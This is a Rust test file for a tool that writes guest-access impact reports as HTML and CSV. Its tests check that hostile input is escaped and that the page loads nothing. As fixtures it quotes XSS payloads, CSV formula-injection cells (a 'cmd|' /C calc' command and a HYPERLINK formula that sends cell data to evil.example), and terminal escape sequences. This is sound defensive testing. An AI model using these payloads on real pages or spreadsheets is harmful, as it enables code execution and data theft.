//! Issue 14 items 1-2: the HTML impact report and the CSV of affected people.
//!
//! The page is checked here for what can be checked without a browser (nothing that loads,
//! hostile input escaped, figures equal to the JSON plan's, determinism); `.ci/html-browser`
//! opens it in headless Chromium for the rest.

mod common;

use std::path::Path;

use spo2b2b::options::{Merge, SpoAfter, Subdomains};
use spo2b2b::plan::Assumptions;
use spo2b2b::render;
use spo2b2b::report::affected::{PeopleInputs, PersonKind, SharePointOnlyUser, affected};
use spo2b2b::report::{self, InputPaths, Report};

fn run(args: &[&str]) -> std::process::Output {
    common::cmd().args(args).output().expect("the binary runs")
}

fn stdout(args: &[&str]) -> String {
    let out = run(args);
    assert!(
        out.status.code() == Some(0) || out.status.code() == Some(1),
        "{args:?}: exit {:?}, stderr {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("UTF-8 output")
}

fn html(bundle: &str) -> String {
    stdout(&["plan", bundle, "--format", "html"])
}

/// The page without its own stylesheet and script (constants we wrote), so what remains is
/// markup and text.
fn markup(page: &str) -> String {
    let cut = |s: &str, open: &str, close: &str| -> String {
        let a = s.find(open).expect("element present") + open.len();
        let b = s[a..].find(close).expect("element closed") + a;
        format!("{}{}", &s[..a], &s[b..])
    };
    cut(&cut(page, "<style>", "</style>"), "<script>", "</script>")
}

/// Everything that could make the browser load something, anywhere in the bytes.
fn assert_loads_nothing(page: &str) {
    let lower = page.to_lowercase();
    for needle in [
        "http:", "https:", "//", "src=", "@import", "url(", "<link", "<img", "<iframe", "<object",
        "<embed", "<base", "<form", "srcset", "ftp:",
    ] {
        assert!(
            !lower.contains(needle),
            "the page contains {needle:?} near {:?}",
            lower
                .find(needle)
                .map(|i| &page[i.saturating_sub(80)..(i + 80).min(page.len())])
        );
    }
    assert_eq!(page.matches("<script").count(), 1, "exactly our one script");
    assert_eq!(
        page.matches("<style").count(),
        1,
        "exactly our one stylesheet"
    );
    let csp = format!(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"{}\">",
        render::html_assets::CSP
    );
    assert!(page.contains(&csp));
    assert!(render::html_assets::CSP.starts_with("default-src 'none'; "));
    assert!(!render::html_assets::CSP.contains("unsafe"));
}

/// Every tag of the page (style and script bodies removed): its name, and attribute names.
fn tags(page: &str) -> Vec<(String, Vec<String>)> {
    let m = markup(page);
    let mut out = Vec::new();
    let mut rest = m.as_str();
    while let Some(i) = rest.find('<') {
        let end = rest[i..].find('>').expect("tags close") + i;
        let inside = &rest[i + 1..end];
        rest = &rest[end + 1..];
        let inside = inside.trim_start_matches('/');
        let mut words = inside.split_whitespace();
        let name = words.next().unwrap_or("").to_lowercase();
        // Attribute names: the text before each `=` outside quotes.
        let mut attrs = Vec::new();
        let mut quoted = false;
        let mut word = String::new();
        for c in inside.chars().skip(name.len()) {
            match c {
                '"' => quoted = !quoted,
                '=' if !quoted => attrs.push(std::mem::take(&mut word).trim().to_lowercase()),
                c if c.is_whitespace() && !quoted => word.clear(),
                c if !quoted => word.push(c),
                _ => {}
            }
        }
        out.push((name, attrs));
    }
    out
}

/// The tags and attributes the renderer writes; anything else came from input.
const OUR_TAGS: &[&str] = &[
    "!doctype",
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "main",
    "section",
    "h1",
    "h2",
    "h3",
    "p",
    "b",
    "i",
    "span",
    "div",
    "nav",
    "a",
    "ol",
    "ul",
    "li",
    "label",
    "input",
    "code",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "button",
    "figure",
    "figcaption",
    "svg",
    "text",
    "rect",
    "title",
    "line",
    "br",
    "footer",
    "script",
];
const OUR_ATTRS: &[&str] = &[
    "lang",
    "charset",
    "http-equiv",
    "content",
    "name",
    "class",
    "id",
    "href",
    "type",
    "scope",
    "data-key",
    "data-sort",
    "viewbox",
    "width",
    "height",
    "role",
    "aria-label",
    "x",
    "y",
    "x1",
    "x2",
    "y1",
    "y2",
    "text-anchor",
];

fn assert_only_our_markup(page: &str) {
    for (name, attrs) in tags(page) {
        assert!(OUR_TAGS.contains(&name.as_str()), "foreign tag <{name}>");
        for a in attrs {
            assert!(
                OUR_ATTRS.contains(&a.as_str()),
                "foreign attribute {a} on <{name}>"
            );
        }
    }
    // Links only to the page's own sections.
    for part in page.split("href=\"").skip(1) {
        assert!(
            part.starts_with('#'),
            "a link that leaves the page: {part:.40}"
        );
    }
}

#[test]
fn example_page_loads_nothing_and_is_only_our_markup() {
    let page = html("testdata/example");
    assert!(page.starts_with("<!DOCTYPE html>\n"));
    assert!(page.ends_with("</html>\n"));
    assert_loads_nothing(&page);
    assert_only_our_markup(&page);
    // The sections SPEC §7 asks for, verdict and summary first.
    let order = [
        "id=\"verdict\"",
        "id=\"next\"",
        "id=\"blast\"",
        "id=\"chart-domains\"",
        "id=\"chart-teams\"",
        "id=\"groups\"",
        "id=\"sharepoint-only\"",
        "id=\"people\"",
        "id=\"findings\"",
    ];
    let at: Vec<usize> = order
        .iter()
        .map(|s| page.find(s).unwrap_or_else(|| panic!("{s} missing")))
        .collect();
    assert!(at.windows(2).all(|w| w[0] < w[1]), "sections out of order");
    assert!(page.contains("Not ready to apply"));
    assert!(page.contains("@media print"));
    // One section per affected team or group, with the people it loses.
    for g in ["Project Falcon", "Marketing Agencies", "Partner Portal"] {
        assert!(
            page.contains(&format!("<h3>{g} <span")),
            "{g} has no section"
        );
    }
    assert_eq!(page.matches("<section class=\"group\"").count(), 3);
    // Owners are not in this export: said, not shown as nobody.
    assert_eq!(page.matches("Owners: not in the export").count(), 3);
    // Its SharePoint-only users are (external-users.json): 5 need an account, 3 are refused.
    assert!(page.contains(
        "<p>5 SharePoint-only guests need a B2B guest account; for 3 of them the proposed policy refuses it.</p>"
    ));
    for who in [
        "rosa&#64;litware.com",
        "tomas&#64;lamnahealthcare.com",
        "paula.kim&#64;outlook.com",
    ] {
        assert!(page.contains(who), "{who} is not on the page");
    }
}

#[test]
fn hostile_input_comes_out_escaped() {
    let page = html("testdata/html-hostile");
    assert_loads_nothing(&page);
    assert_only_our_markup(&page);
    for shown in [
        // A group name that is a script, shown as text.
        "&lt;script&gt;window.__pwned&#61;2&lt;&#47;script&gt;",
        // A name that tries to close the table and open a heading with a handler.
        "&lt;&#47;td&gt;&lt;&#47;tr&gt;&lt;&#47;table&gt;&lt;h1 onclick&#61;alert(3)&gt;x",
        // An address with an image and a handler.
        "&lt;img src&#61;x onerror&#61;&quot;window.__pwned&#61;1&quot;&gt;&#64;outlook.com",
        // A terminal escape, an OSC 8 link, BEL, CR/LF and a right-to-left override: visible.
        "&#61;1+1 \\u{1b}]8;;https&#58;&#47;&#47;evil.example\\u{7}link\\u{d}\\u{a}next",
        "TAB\\u{1b}[31mred\\u{202e}evil&#64;litware.com",
    ] {
        assert!(page.contains(shown), "not found escaped: {shown}");
    }
    for raw in [
        "<script>window",
        "<img",
        "<h1 onclick",
        "\u{1b}",
        "\u{202e}",
        "\u{7}",
    ] {
        assert!(!page.contains(raw), "raw input in the page: {raw:?}");
    }
}

/// `data-key` figures and their text, in page order.
fn figures(page: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for part in page.split("data-key=\"").skip(1) {
        let key_end = part.find('"').expect("attribute closes");
        let key = part[..key_end].to_string();
        let text_start = part.find('>').expect("tag closes") + 1;
        let text_end = part[text_start..].find('<').expect("element closes") + text_start;
        out.push((key, part[text_start..text_end].to_string()));
    }
    out
}

/// Every `data-key` figure of the page equals the value at that path of the JSON plan (a
/// JSON `null`, an unknown count, is shown as "unknown"). Returns how many were compared.
fn assert_figures_match(label: &str, page: &str, plan: &serde_json::Value) -> usize {
    let figures = figures(page);
    for (key, text) in &figures {
        let mut v = plan;
        let mut len = None;
        for k in key.split('.') {
            if k == "length" {
                len = Some(v.as_array().expect("length of an array").len());
                break;
            }
            v = match k.parse::<usize>() {
                Ok(i) => &v[i],
                Err(_) => &v[k],
            };
        }
        let want = match (len, v) {
            (Some(n), _) => n.to_string(),
            (None, serde_json::Value::String(s)) => s.clone(),
            (None, serde_json::Value::Number(n)) => n.to_string(),
            (None, serde_json::Value::Null) => "unknown".to_string(),
            (None, other) => panic!("{label}: {key} is {other}"),
        };
        assert_eq!(text, &want, "{label}: figure {key}");
    }
    figures.len()
}

#[test]
fn figures_on_the_page_equal_the_json_plan() {
    let unknown_members = [
        "--tenant",
        "testdata/example/tenant.json",
        "--guests",
        "testdata/example/guests.json",
        "--groups",
        "testdata/real/groups-graph-no-members.json",
    ];
    let runs: [&[&str]; 3] = [
        &["testdata/example"],
        &["testdata/html-hostile"],
        // Groups without members: counts that are unknown, never 0.
        &unknown_members,
    ];
    for inputs in runs {
        let with = |format: &str| {
            let mut args = vec!["plan"];
            args.extend_from_slice(inputs);
            args.extend(["--format", format]);
            stdout(&args)
        };
        let page = with("html");
        let plan: serde_json::Value = serde_json::from_str(&with("json")).unwrap();
        let label = inputs.join(" ");
        let n = assert_figures_match(&label, &page, &plan);
        assert!(n >= 30, "{label}: only {n} figures");
        // Unknown membership is said, never shown as nobody.
        assert_eq!(
            page.contains("4 teams and groups were exported without their members"),
            inputs == unknown_members,
            "{label}"
        );
    }
}

#[test]
fn html_and_csv_are_byte_identical_across_runs_and_flags() {
    let dir = tempfile::tempdir().unwrap();
    let h = dir.path().join("report.html");
    let c = dir.path().join("people.csv");
    let first = html("testdata/example");
    let out = run(&[
        "plan",
        "testdata/example",
        "--format",
        "html",
        "--out-html",
        h.to_str().unwrap(),
        "--out-csv",
        c.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(String::from_utf8(out.stdout).unwrap(), first);
    assert_eq!(std::fs::read_to_string(&h).unwrap(), first);
    let csv1 = std::fs::read(&c).unwrap();
    let out = run(&["plan", "testdata/example", "--out-csv", c.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(std::fs::read(&c).unwrap(), csv1);
}

#[test]
fn example_csv_has_one_row_per_affected_person() {
    let dir = tempfile::tempdir().unwrap();
    let c = dir.path().join("people.csv");
    run(&["plan", "testdata/example", "--out-csv", c.to_str().unwrap()]);
    let text = std::fs::read_to_string(&c).unwrap();
    // Guests and pending invitations of newly uninvitable domains, and the example's
    // SharePoint-only users (external-users.json: Rosa, Tomás and Paula lose access; Nia and
    // Omar need accounts; Ana, Max and Ivo have Entra guest accounts and are not listed as such).
    assert_eq!(
        text,
        "\u{feff}address,domain,kind,teams_and_groups,owners,before,after,codes,sites,what_happens\r\n\
         kim@fabrikarn.com,fabrikarn.com,pending,Marketing Agencies,,allowed,blocked,pending-invites-fail; teams-guests-newly-blocked,,the pending invitation fails when redeemed\r\n\
         tomas@lamnahealthcare.com,lamnahealthcare.com,sharepoint-only,,,allowed,blocked,spo-guests-lose-access,,loses access: the B2B guest account they now need cannot be created\r\n\
         ivo@litware.com,litware.com,guest,Marketing Agencies,,allowed,blocked,teams-guests-newly-blocked,,\"keeps access, but cannot be invited again from this domain\"\r\n\
         rosa@litware.com,litware.com,sharepoint-only,,,allowed,blocked,spo-guests-lose-access,,loses access: the B2B guest account they now need cannot be created\r\n\
         nia@northwindtraders.com,northwindtraders.com,sharepoint-only,,,allowed,allowed,spo-guests-need-account,,needs a B2B guest account (an invitation) to keep access\r\n\
         gus@outlook.com,outlook.com,guest,Project Falcon; Partner Portal,,allowed,blocked,consumer-domain; teams-guests-newly-blocked,,\"keeps access, but cannot be invited again from this domain\"\r\n\
         hana@outlook.com,outlook.com,pending,Project Falcon,,allowed,blocked,consumer-domain; pending-invites-fail; teams-guests-newly-blocked,,the pending invitation fails when redeemed\r\n\
         paula.kim@outlook.com,outlook.com,sharepoint-only,,,allowed,blocked,consumer-domain; spo-guests-lose-access,,loses access: the B2B guest account they now need cannot be created\r\n\
         dev@sales.fabrikam.com,sales.fabrikam.com,guest,Project Falcon,,allowed,blocked,teams-guests-newly-blocked; subdomain-not-covered,,\"keeps access, but cannot be invited again from this domain\"\r\n\
         omar@woodgrovebank.com,woodgrovebank.com,sharepoint-only,,,allowed,allowed,spo-guests-need-account,,needs a B2B guest account (an invitation) to keep access\r\n"
    );
}

#[test]
fn hostile_csv_cells_cannot_run_as_formulas_or_steer_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let c = dir.path().join("people.csv");
    run(&[
        "plan",
        "testdata/html-hostile",
        "--out-csv",
        c.to_str().unwrap(),
    ]);
    let bytes = std::fs::read(&c).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    assert!(
        !text
            .chars()
            .any(|ch| (ch.is_control() && ch != '\r' && ch != '\n') || ch == '\u{202e}'),
        "a control character reached the CSV"
    );
    // Every record is one line: CR LF only as the record terminator.
    let lines: Vec<&str> = text.trim_end_matches("\r\n").split("\r\n").collect();
    assert!(lines.iter().all(|l| !l.contains('\r') && !l.contains('\n')));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut addresses = Vec::new();
    for row in reader.records() {
        let row = row.unwrap();
        assert_eq!(row.len(), 10);
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?}"
            );
        }
        addresses.push(row[0].to_string());
    }
    assert_eq!(lines.len(), addresses.len() + 1);
    assert_eq!(
        addresses,
        [
            "'-2+3@litware.com",
            "'@SUM(1+1)@litware.com",
            "TAB\\u{1b}[31mred\\u{202e}evil@litware.com",
            "'+cmd|' /C calc'!A0@outlook.com",
            "<img src=x onerror=\"window.__pwned=1\">@outlook.com",
            "'=HYPERLINK(\"https://evil.example/?\"&A1)@outlook.com",
        ]
    );
    // The group whose name starts with `=` is defused in the teams column too.
    assert!(text.contains(",'=1+1 \\u{1b}]8;;https://evil.example\\u{7}link\\u{d}\\u{a}next,"));
}

#[test]
fn no_out_file_is_written_when_the_run_fails() {
    let dir = tempfile::tempdir().unwrap();
    let h = dir.path().join("report.html");
    let c = dir.path().join("people.csv");
    let out = run(&[
        "plan",
        "--tenant",
        "testdata/malformed/does-not-exist.json",
        "--out-html",
        h.to_str().unwrap(),
        "--out-csv",
        c.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(!h.exists() && !c.exists());
}

fn example_report() -> Report {
    let (files, config) =
        report::collect_inputs(Some(Path::new("testdata/example")), &InputPaths::default())
            .unwrap();
    report::run(report::RunOptions {
        files,
        config,
        text_mode: None,
        assumptions: Assumptions {
            subdomains: Subdomains::Exact,
            merge: Merge::Union,
            spo_after: SpoAfter::Keep,
        },
        flag_overrides: Vec::new(),
    })
    .unwrap()
}

/// The optional inputs that other work is adding (group owners, SharePoint-only users) reach
/// the page and the CSV once passed in.
#[test]
fn owners_and_sharepoint_only_users_are_shown_when_given() {
    let report = example_report();
    let mut owners = vec![Vec::new(); report.data.groups.len()];
    let falcon = report
        .data
        .groups
        .iter()
        .position(|g| g.display_name.as_deref() == Some("Project Falcon"))
        .unwrap();
    owners[falcon] = vec!["owner@contoso.com".to_string()];
    let inputs = PeopleInputs {
        group_owners: Some(owners),
        sharepoint_only: Some(vec![
            // On Project Falcon's site (the site's GroupId), from a domain the proposal blocks.
            SharePointOnlyUser {
                address: "otp@litware.com".into(),
                sites: vec!["https://contoso.sharepoint.com/sites/FALCON/".into()],
            },
            // From a domain the proposal allows, on a site with no group.
            SharePointOnlyUser {
                address: "Sam@Fabrikam.com".into(),
                sites: vec!["https://contoso.sharepoint.com/sites/legal".into()],
            },
        ]),
    };
    let view = affected(&report, &inputs);
    let spo: Vec<(&str, &str)> = view
        .sharepoint_only()
        .map(|p| (p.address.as_str(), p.after.as_str()))
        .collect();
    assert_eq!(
        spo,
        [
            ("Sam@Fabrikam.com", "allowed"),
            ("otp@litware.com", "blocked")
        ]
    );
    let falcon_view = view.groups.iter().find(|g| g.index == falcon).unwrap();
    assert_eq!(
        falcon_view.owners.as_deref(),
        Some(&["owner@contoso.com".to_string()][..])
    );
    assert!(
        falcon_view
            .people
            .iter()
            .any(|&p| view.people[p].kind == PersonKind::SharepointOnly)
    );
    // Marketing Agencies is exported with no owners: an ownerless group, said so.
    let page = render::html::page(&report, &view);
    assert!(page.contains("Owners: <code>owner&#64;contoso.com</code>"));
    assert!(page.contains("Owners: none"));
    assert!(!page.contains("Not in the export."));
    assert!(page.contains("loses access: the B2B guest account they now need cannot be created"));
    let csv = render::csv::people(&view);
    assert!(csv.contains(
        "otp@litware.com,litware.com,sharepoint-only,Project Falcon,owner@contoso.com,allowed,blocked,"
    ));
    assert!(csv.contains("Sam@Fabrikam.com,fabrikam.com,sharepoint-only,,,allowed,allowed,"));
}

/// SHA-256 (FIPS 180-4), enough to check the page's CSP hashes without a crate.
fn sha256(data: &[u8]) -> [u8; 32] {
    const K: [u32; 64] = [
        0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4,
        0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe,
        0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f,
        0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7,
        0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc,
        0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
        0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116,
        0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
        0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,
        0xc67178f2,
    ];
    let mut h: [u32; 8] = [
        0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab,
        0x5be0cd19,
    ];
    let mut msg = data.to_vec();
    msg.push(0x80);
    while msg.len() % 64 != 56 {
        msg.push(0);
    }
    msg.extend_from_slice(&((data.len() as u64) * 8).to_be_bytes());
    for block in msg.chunks(64) {
        let mut w = [0u32; 64];
        for (i, word) in block.chunks(4).enumerate() {
            w[i] = u32::from_be_bytes([word[0], word[1], word[2], word[3]]);
        }
        for i in 16..64 {
            let s0 = w[i - 15].rotate_right(7) ^ w[i - 15].rotate_right(18) ^ (w[i - 15] >> 3);
            let s1 = w[i - 2].rotate_right(17) ^ w[i - 2].rotate_right(19) ^ (w[i - 2] >> 10);
            w[i] = w[i - 16]
                .wrapping_add(s0)
                .wrapping_add(w[i - 7])
                .wrapping_add(s1);
        }
        let mut v = h;
        for i in 0..64 {
            let s1 = v[4].rotate_right(6) ^ v[4].rotate_right(11) ^ v[4].rotate_right(25);
            let ch = (v[4] & v[5]) ^ (!v[4] & v[6]);
            let t1 = v[7]
                .wrapping_add(s1)
                .wrapping_add(ch)
                .wrapping_add(K[i])
                .wrapping_add(w[i]);
            let s0 = v[0].rotate_right(2) ^ v[0].rotate_right(13) ^ v[0].rotate_right(22);
            let maj = (v[0] & v[1]) ^ (v[0] & v[2]) ^ (v[1] & v[2]);
            let t2 = s0.wrapping_add(maj);
            v = [
                t1.wrapping_add(t2),
                v[0],
                v[1],
                v[2],
                v[3].wrapping_add(t1),
                v[4],
                v[5],
                v[6],
            ];
        }
        for (x, y) in h.iter_mut().zip(v) {
            *x = x.wrapping_add(y);
        }
    }
    let mut out = [0u8; 32];
    for (i, x) in h.iter().enumerate() {
        out[i * 4..i * 4 + 4].copy_from_slice(&x.to_be_bytes());
    }
    out
}

fn base64(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn sha256_matches_the_standard_vectors() {
    assert_eq!(
        base64(&sha256(b"")),
        "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    );
    assert_eq!(
        base64(&sha256(b"abc")),
        "ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0="
    );
    // Two blocks of padding.
    assert_eq!(
        base64(&sha256(
            b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"
        )),
        "JI1qYdIGOLjlwCaTDD5gOaM85Flk/yFn9uzt1BnbBsE="
    );
}

/// The page's CSP allows exactly its own stylesheet and script, by hash: an inline script or
/// style that input smuggled in would not run even if escaping failed.
#[test]
fn the_csp_hashes_are_those_of_the_page_s_own_style_and_script() {
    let page = html("testdata/example");
    let inner = |open: &str, close: &str| -> String {
        let a = page.find(open).unwrap() + open.len();
        let b = page[a..].find(close).unwrap() + a;
        base64(&sha256(&page.as_bytes()[a..b]))
    };
    let style = inner("<style>", "</style>");
    let script = inner("<script>", "</script>");
    let want = format!(
        "default-src 'none'; style-src 'sha256-{style}'; script-src 'sha256-{script}'; img-src data:; base-uri 'none'; form-action 'none'"
    );
    assert_eq!(render::html_assets::CSP, want);
}

/// Every case bundle (empty lists, no guests, mode conflicts, waivers...) makes a page that
/// loads nothing, holds only our markup and agrees with its JSON plan.
#[test]
fn every_case_bundle_makes_a_sound_page() {
    let mut seen = 0;
    let mut cases: Vec<_> = std::fs::read_dir("testdata/cases")
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.join("tenant.json").exists() || p.join("tenant.txt").exists())
        .collect();
    cases.sort();
    for case in cases {
        let bundle = case.to_str().unwrap();
        let mut args = vec!["plan", bundle, "--format", "html"];
        if case.join("tenant.txt").exists() {
            args.extend(["--mode", "allow"]);
        }
        let page = stdout(&args);
        assert_loads_nothing(&page);
        assert_only_our_markup(&page);
        args[3] = "json";
        let plan: serde_json::Value = serde_json::from_str(&stdout(&args)).unwrap();
        assert_figures_match(bundle, &page, &plan);
        seen += 1;
    }
    assert!(seen >= 20, "only {seen} case bundles");
}

/// Owners read from a real `$expand=owners` export (testdata/real) reach the page and the CSV;
/// a group exported with `owners: []` is called ownerless, not "not in the export".
#[test]
fn exported_owners_reach_the_page_and_the_csv() {
    let dir = tempfile::tempdir().unwrap();
    let c = dir.path().join("people.csv");
    let args = [
        "plan",
        "testdata/example",
        "--groups",
        "testdata/real/groups-graph-expand-owners.json",
        "--format",
        "html",
        "--out-csv",
        c.to_str().unwrap(),
    ];
    let page = stdout(&args);
    assert!(!page.contains("Owners: not in the export"));
    assert!(page.contains("Owners: <code>AdeleV&#64;contoso.com</code></p>"));
    assert!(page.contains(
        "Owners: <code>AdeleV&#64;contoso.com</code>, <code>admin&#64;contoso.onmicrosoft.com</code></p>"
    ));
    assert!(page.contains("Owners: none (an ownerless group"));
    let csv = std::fs::read_to_string(&c).unwrap();
    assert!(csv.contains(
        "\r\ngus@outlook.com,outlook.com,guest,Project Falcon; Partner Portal,AdeleV@contoso.com; admin@contoso.onmicrosoft.com,allowed,blocked,"
    ));
    assert!(csv.contains(
        "\r\nkim@fabrikarn.com,fabrikarn.com,pending,Marketing Agencies,,allowed,blocked,"
    ));
}
